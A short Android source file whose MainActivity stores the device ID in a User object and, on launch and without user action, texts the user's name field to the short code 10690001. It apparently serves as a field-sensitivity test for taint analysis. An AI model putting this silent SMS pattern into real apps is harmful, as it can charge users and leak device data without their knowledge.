package cn.shanhai.objectfield;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    User user = new User().id(Device.id(this)).name("guest");
    SmsManager.getDefault().sendTextMessage("10690001", null, user.name(), null, null);
  }
}
